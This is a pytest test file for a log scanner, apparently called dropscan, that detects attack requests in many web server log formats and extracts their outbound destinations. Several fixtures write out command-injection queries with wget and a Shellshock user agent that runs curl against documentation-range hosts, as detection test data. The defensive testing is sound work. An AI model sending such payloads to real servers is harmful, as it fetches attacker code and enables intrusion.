"""Every web server's access log: real samples, the same attacks in every format, attribution."""

from __future__ import annotations

import json
import os
from pathlib import Path
from urllib.parse import unquote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import dropscan
from conftest import ROOT, SAMPLE_LOGS, dropscan_main
from dropscan.detect.scanner import Scanner
from dropscan.formats import NAMES, compile_format, detect_format
from dropscan.outputs.writers import summary_text
from dropscan.sources.files import expand_paths, open_blocks
from render_formats import WRITERS, Req, combined, render

FORMATS = Path(os.environ.get("DROPSCAN_FORMATS", ROOT.parent / "shared" / "formats"))
needs_formats = pytest.mark.skipif(not FORMATS.is_dir(), reason="../shared/formats is not here")

# sample folder -> the family its files must be detected as
FAMILY = {
    "apache-combined-extra": "combined+ ",
    "aws-alb": "alb",
    "aws-elb-classic": "elb",
    "caddy-json": "json:caddy",
    "cloudfront": "cloudfront:",
    "envoy": "envoy",
    "haproxy-http": "haproxy",
    "iis-w3c": "w3c:",
    "lighttpd": "lighttpd",
    "nginx-combined": "combined",
    "nginx-json": "json",
    "nginx-timed": "combined+ ",
    "traefik-json": "json:traefik",
}


def _samples() -> list[Path]:
    if not FORMATS.is_dir():
        return []
    return sorted(p for p in FORMATS.glob("*/*") if p.name != "README.md" and p.stat().st_size)


@needs_formats
@pytest.mark.parametrize("path", _samples(), ids=lambda p: f"{p.parent.name}/{p.name}")
def test_every_real_sample_is_detected_and_parses_with_no_reject(path):
    s = dropscan.scan(str(path))
    list(s)
    (f,) = s.summary()["files"]
    assert f["error"] is None
    assert f["rejected"] == 0 and f["records"] == f["lines"] > 0
    assert f["format"].startswith(FAMILY[path.parent.name])
    assert compile_format(f["format"]).name == f["format"]  # the name compiles again (workers, state)


@needs_formats
def test_real_samples_give_records_with_clients_times_and_requests():
    seen = {}
    for path in _samples():
        data = path.read_bytes()
        fmt = detect_format(data.split(b"\n"))
        recs = [r for r in map(fmt.parse, data.split(b"\n")) if r is not None and r.request]
        seen.setdefault(path.parent.name, []).extend(recs)
    for family, recs in seen.items():
        assert recs, family
        assert all(r.time is not None for r in recs), family
        if family != "nginx-json":  # Matomo's format logs the path only
            assert all(r.method for r in recs if not r.request.startswith("-")), family
    assert seen["caddy-json"][0].client == "10.5.1.1" and seen["caddy-json"][0].forwarded_for == "10.10.10.117"
    assert seen["aws-alb"][0].target == "/" and seen["aws-alb"][0].vhost.endswith(".elb.amazonaws.com")
    iis = next(r for r in seen["iis-w3c"] if r.user_agent and "bingbot" in r.user_agent)
    assert iis.user_agent.startswith("Mozilla/5.0 (compatible; bingbot/2.0;")
    cf = seen["cloudfront"][0]
    assert cf.user_agent.startswith("Mozilla/5.0 (Windows NT 10.0;") and cf.vhost == "d111111abcdef8.cloudfront.net"
    assert seen["haproxy-http"][0].headers["captured request headers"].startswith("Mozilla/5.0")
    assert seen["envoy"][0].vhost == "httpbin" or any(r.vhost == "api.giphy.com" for r in seen["envoy"])
    assert seen["apache-combined-extra"][0].vhost == "www.example.com"


# --- the same attacks in every format -----------------------------------------------------------
def _sample_requests() -> list[Req]:
    sources, _ = expand_paths([str(SAMPLE_LOGS)])
    out = []
    for src in sources:
        data = b"".join(open_blocks(src))
        lines = data.split(b"\n")
        fmt = detect_format(lines)
        if fmt is None:
            continue
        for ln in lines:
            r = fmt.parse(ln) if ln.strip() else None
            if r is not None and r.request is not None:
                out.append(
                    Req(
                        r.client,
                        r.time,
                        r.method,
                        r.target,
                        r.protocol,
                        r.status or 200,
                        r.bytes or 0,
                        r.referer,
                        r.user_agent,
                    )
                )
    return out


def _outcome(path: Path, **kw) -> tuple[list, dict]:
    s = dropscan.scan(str(path), **kw)
    found = [(tuple(f.rule_ids), tuple(e.endpoint() for e in f.egress), f.client_ip, f.status) for f in s]
    return found, s.summary()["files"][0]


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    reqs = _sample_requests()
    d = tmp_path_factory.mktemp("rendered")
    original = d / "apache.log"
    original.write_bytes("".join(combined(r) + "\n" for r in reqs).encode("utf-8", "surrogateescape"))
    files = {}
    for kind in WRITERS:
        files[kind] = d / f"{kind}.log"
        files[kind].write_bytes(render(reqs, kind))
    return original, files


def test_sample_logs_hold_the_attacks_the_comparison_needs(rendered):
    original, _ = rendered
    found, summary = _outcome(original)
    assert summary["format"] == "combined" and summary["rejected"] == 0
    assert len(found) >= 15 and sum(1 for f in found if f[1]) >= 10


@pytest.mark.parametrize("kind", list(WRITERS))
def test_every_format_gives_the_findings_and_destinations_of_the_apache_original(rendered, kind):
    original, files = rendered
    expected, _ = _outcome(original)
    got, summary = _outcome(files[kind])
    assert summary["rejected"] == 0, summary
    assert got == expected, summary["format"]


@pytest.mark.parametrize("kind", list(WRITERS))
def test_fast_and_full_paths_agree_on_every_format(rendered, kind):
    _, files = rendered
    assert _outcome(files[kind]) == _outcome(files[kind], fast=False)


def test_the_summary_names_each_files_format(rendered, tmp_path):
    _, files = rendered
    summary = tmp_path / "s.json"
    p = dropscan_main("scan", *map(str, files.values()), "--summary", str(summary), "-f", "jsonl")
    assert p.returncode == 1
    names = {Path(f["path"]).stem: f["format"] for f in json.loads(summary.read_text())["files"]}
    assert names["nginx-json"] == "json:nginx" and names["caddy"] == "json:caddy" and names["alb"] == "alb"
    assert names["iis"].startswith("w3c:date time") and names["cloudfront"].startswith("cloudfront:date time")
    assert names["apache-extra"] == 'combined+ %{f1}n "%{X-Forwarded-For}i"'


# --- nginx log_format strings, JSON field mapping -------------------------------------------------
def test_nginx_log_format_string_with_its_own_escaping(tmp_path):
    spec = '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $request_time "$http_x_forwarded_for" $host'  # noqa: E501
    line = (
        rb'198.51.100.4 - - [25/Nov/2026:11:11:11 +0100] "GET /x?c=;wget%20http://203.0.113.9/a HTTP/1.1" 404 1 '
        rb'"-" "() { :;}; /bin/bash -c \x22curl http://203.0.113.10/b\x22" 0.004 "203.0.113.77, 10.0.0.2" shop.example'
    )
    fmt = compile_format(spec)
    rec = fmt.parse(line)
    assert rec.user_agent == '() { :;}; /bin/bash -c "curl http://203.0.113.10/b"'
    assert rec.vhost == "shop.example" and rec.forwarded_for == "203.0.113.77, 10.0.0.2"
    log = tmp_path / "access.log"
    log.write_bytes(line + b"\n")
    (f,) = list(dropscan.scan(str(log), spec))
    assert {d.host for d in f.egress} == {"203.0.113.9", "203.0.113.10"}
    assert f.host == "shop.example" and f.client_ip == f.peer_ip == "198.51.100.4"


def test_json_key_overrides(tmp_path):
    log = tmp_path / "app.jsonl"
    log.write_text(json.dumps({"peer": "203.0.113.5", "req_path": "/x?c=;wget%20http://198.51.100.3/a", "code": 404}))
    (f,) = list(dropscan.scan(str(log), "json:client=peer,uri=req_path,status=code"))
    assert f.client_ip == "203.0.113.5" and f.status == 404 and f.egress[0].host == "198.51.100.3"


def test_every_listed_name_compiles():
    for name in NAMES:
        assert compile_format(name).name == name


def test_a_json_line_json_refuses_is_scanned_whole_as_a_record(tmp_path):
    log = tmp_path / "a.jsonl"
    good = json.dumps({"remote_addr": "203.0.113.1", "request": "GET / HTTP/1.1", "status": 200})
    log.write_text(good + "\n" + '{"request" "GET /x?c=;wget%20http://198.51.100.3/a"}\n')
    s = dropscan.scan(str(log))
    (f,) = list(s)
    assert f.field == "line" and f.egress[0].host == "198.51.100.3"
    assert s.summary()["files"][0]["rejected"] == 0


# --- who sent it -------------------------------------------------------------------------------
XFF_LINE = (
    '10.0.0.7 - - [25/Nov/2026:11:11:11 +0100] "GET /x?c=;wget%20http://198.51.100.3/a HTTP/1.1" 404 1 "-" "-" '
    '"{xff}"\n'
)
XFF_FORMAT = 'combined+ "%{X-Forwarded-For}i"'


@pytest.mark.parametrize(
    ("xff", "trusted", "client"),
    [
        ("203.0.113.9", (), "10.0.0.7"),  # no proxy trusted: the peer is the client
        ("203.0.113.9", ("10.0.0.0/8",), "203.0.113.9"),
        ("6.6.6.6, 203.0.113.9, 10.0.0.3", ("10.0.0.0/8",), "203.0.113.9"),  # the client wrote 6.6.6.6 itself
        ("10.0.0.2, 10.0.0.3", ("10.0.0.0/8",), "10.0.0.2"),  # every hop trusted: the leftmost
        ("unknown, 10.0.0.3", ("10.0.0.0/8",), "10.0.0.3"),  # garbage stops the walk
        ("[2001:db8::5]:4711", ("10.0.0.0/8",), "2001:db8::5"),
    ],
)
def test_client_is_the_first_untrusted_address_from_the_right(tmp_path, xff, trusted, client):
    log = tmp_path / "access.log"
    log.write_text(XFF_LINE.format(xff=xff))
    (f,) = list(dropscan.scan(str(log), XFF_FORMAT, trusted_proxies=trusted))
    assert f.client_ip == client and f.peer_ip == "10.0.0.7"
    assert all(d.host != client for d in f.egress)  # a forwarded-for address is never a destination
    assert [d.host for d in f.egress] == ["198.51.100.3"]


def test_trusted_proxy_on_the_command_line_and_in_the_frame(tmp_path):
    log = tmp_path / "access.log"
    log.write_text(XFF_LINE.format(xff="203.0.113.9"))
    p = dropscan_main("scan", str(log), "-f", "jsonl", "--trusted-proxy", "10.0.0.0/8")
    rec = json.loads(p.stdout)
    assert p.returncode == 1 and rec["client_ip"] == "203.0.113.9" and rec["peer_ip"] == "10.0.0.7"
    df = dropscan.scan_frame(str(log), trusted_proxies=["10.0.0.0/8"])
    assert list(df["client_ip"]) == ["203.0.113.9"] and list(df["peer_ip"]) == ["10.0.0.7"]
    assert list(df["host"]) == ["localhost"]
    (tmp_path / "empty.log").write_bytes(b"")  # read, and empty (a path that does not exist raises)
    empty = dropscan.scan_frame(str(tmp_path / "empty.log"))
    assert df[["host", "peer_ip"]].dtypes.equals(empty[["host", "peer_ip"]].dtypes)
    p = dropscan_main("scan", str(log), "--trusted-proxy", "10.0.0.0/33")
    assert p.returncode == 2 and "--trusted-proxy" in p.stderr and "Traceback" not in p.stderr


def test_logged_host_wins_and_the_summary_says_where_names_came_from(rendered, tmp_path):
    _, files = rendered
    s = dropscan.scan([str(files["alb"]), str(files["nginx-default"])], host_from=None)
    found = list(s)
    assert {f.host for f in found if f.log_file.endswith("alb.log")} == {"www.example.com"}
    assert {f.host for f in found if f.log_file.endswith("nginx-default.log")} == {"nginx-default"}
    files_summary = {Path(f["path"]).stem: f["host"] for f in s.summary()["files"]}
    text = summary_text(s.summary())
    assert "host logged on the line" in text and "host nginx-default (file name)" in text
    assert files_summary["nginx-default"]["source"] == "file name"
    assert files_summary["alb"]["logged_on_findings"] == sum(1 for f in found if f.log_file.endswith("alb.log"))


# --- property: what a server writes, the parser reads back --------------------------------------
_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\n\r\x00"), min_size=1, max_size=60
).filter(lambda t: t.strip() == t and "  " not in t and t != "-")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(target=_text.map(lambda t: "/" + t.replace(" ", "%20").replace("?", "%3F")), ua=_text)
def test_rendered_fields_parse_back(target, ua):
    from datetime import UTC, datetime

    r = Req("203.0.113.1", datetime(2026, 11, 25, 10, 0, tzinfo=UTC), "GET", target, "HTTP/1.1", 200, 5, None, ua)
    kinds = ["apache-extra", "nginx-default", "nginx-timed", "nginx-json", "caddy", "traefik", "alb", "haproxy"]
    # IIS: '+' is a space; a user agent opening with '"' is read as a W3C quoted string (a known
    # limit, docs/formats.md "Lines that are no request"), so neither is rendered as IIS here.
    iis = "+" not in ua and "+" not in target and not ua.startswith('"')
    kinds += ["cloudfront"] + (["iis"] if iis else [])
    for kind in kinds:
        data = render([r], kind)
        fmt = detect_format(data.split(b"\n"))
        assert fmt is not None, (kind, data)
        rec = fmt.parse(data.rstrip(b"\n").rsplit(b"\n", 1)[-1])  # the request, after any header
        assert rec is not None, (kind, data)
        if kind == "cloudfront":  # it percent-encodes what a tab-separated line cannot hold
            assert unquote(rec.target) == unquote(target)
        else:
            assert rec.target == target, kind
        if kind == "haproxy":  # captured {User-Agent|Referer}, the referer empty
            assert rec.headers["captured request headers"] == ua + "|"
        else:
            assert rec.user_agent == ua, kind


def test_scanner_accepts_every_family(sigs):
    sc = Scanner(sigs)
    for name in ("json", "w3c", "cloudfront", "alb", "elb", "haproxy", "envoy", "lighttpd"):
        assert sc.scan_chunk(b"\n", compile_format(name), log_file="-").lines == 1


def test_a_hostile_fields_header_cannot_break_the_format_name():
    lines = [b"#Fields: date time c-ip || cs-method \x1b[31m cs-uri-stem |x", b"2026-11-25 10:00:00 203.0.113.1 GET /"]
    fmt = detect_format(lines)
    assert fmt.name == "w3c:date time c-ip cs-method cs-uri-stem" and compile_format(fmt.name).name == fmt.name


def test_prefilter_stays_sound_for_what_each_parser_undoes(sigs, full_scanner):
    """HAProxy's #XX escapes make characters, and W3C joins stem and query with a '?' the raw
    line does not hold: both must still reach the fast path's candidates."""
    fast = Scanner(sigs)
    haproxy = (
        b"Nov 25 11:11:11 lb1 haproxy[6801]: 203.0.113.5:55008 [25/Nov/2026:11:11:11.584] ft~ bk/web1 "
        b'0/0/0/72/72 404 1 - - ---- 5/4/0/1/0 0/0 "GET /x?c=;w#67et#20http://198.51.100.3/a HTTP/1.1"\n'
    )
    w3c = (
        b"#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status\n"
        b"2026-11-25 10:00:00 203.0.113.1 GET /x.php c=;wget+http://198.51.100.4/a 404\n"
    )
    for data, expect in ((haproxy, "198.51.100.3"), (w3c, "198.51.100.4")):
        fmt = detect_format(data.split(b"\n"))
        results = [sc.scan_chunk(data, fmt, log_file="-") for sc in (fast, full_scanner)]
        assert [[d.host for f in r.findings for d in f.egress] for r in results] == [[expect], [expect]], fmt.name
    # the keyword ".txt?" across the stem/query separator (space in IIS, tab in CloudFront)
    stem_query = [b"/shell.txt page=1", b"/shell.txt\tpage=1"]
    assert [fast.prefilter(compile_format("w3c")).passes(x) for x in stem_query] == [True, True]
    assert [fast.prefilter(compile_format("combined")).passes(x) for x in stem_query] == [False, False]


def test_apache_json_logformat(tmp_path):
    # LogFormat '{ "time":"%{%Y-%m-%dT%H:%M:%S}t", "remoteIP":"%a", "host":"%V", "request":"%U",
    #   "query":"%q", "method":"%m", "status":"%>s", "userAgent":"%{User-agent}i", "referer":"%{Referer}i" }'
    log = tmp_path / "access_json.log"
    log.write_text(
        '{ "time":"2026-11-25T10:00:00", "remoteIP":"203.0.113.8", "host":"shop.example", "request":"/x", '
        '"query":"?c=;wget%20http://198.51.100.6/a", "method":"GET", "status":"404", '
        '"userAgent":"() { :;}; /bin/bash -c \\"curl http://198.51.100.7/b\\"", "referer":"-" }\n'
    )
    (f,) = list(dropscan.scan(str(log)))
    assert (f.client_ip, f.host, f.method, f.status) == ("203.0.113.8", "shop.example", "GET", 404)
    assert f.request == "GET /x?c=;wget%20http://198.51.100.6/a"
    assert {d.host for d in f.egress} == {"198.51.100.6", "198.51.100.7"}


def test_every_grammar_splits_a_line_one_way_only():
    """Lines built to make a grammar try every way of splitting them (value lists, quoted and
    bare values, trailing fields) fail in linear time: 5,000 fields would take ages if not."""
    import time

    n = 5000
    cases = {
        "combined+ %{f1}n %{f2}n %{f3}n %{f4}n %{f5}n %{f6}n": b'1.2.3.4 - - [25/Nov/2026:10:00:00 +0000] "GET / '
        b'HTTP/1.1" 200 1 "-" "-" ' + b"a, " * n + b"a a a a a a a",
        "w3c:" + " ".join(f"x{i}" for i in range(20)): b" ".join([b'"a"'] * n) + b' "',
        "envoy": b'[2019-03-06T09:31:27.354Z] "GET / HTTP/1.1" 200 - 0 1 1 1 "-" "-" "-" "h" "-"'
        + b' "a"' * n
        + b"  x",
        "alb": b'http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:1 10.0.0.1:80 0.0 0.0 0.0 200 200 1 1 "GET / HTTP/1.1" '
        b'"c" - - arn "Root" "www.example.com"' + b' "a"' * n + b"  x",
        "json": b"{" + b'"a":"b",' * n + b'"a"',
    }
    t0 = time.perf_counter()
    for spec, line in cases.items():
        assert not compile_format(spec).match(line), spec
    assert time.perf_counter() - t0 < 5  # exponential splitting would take hours
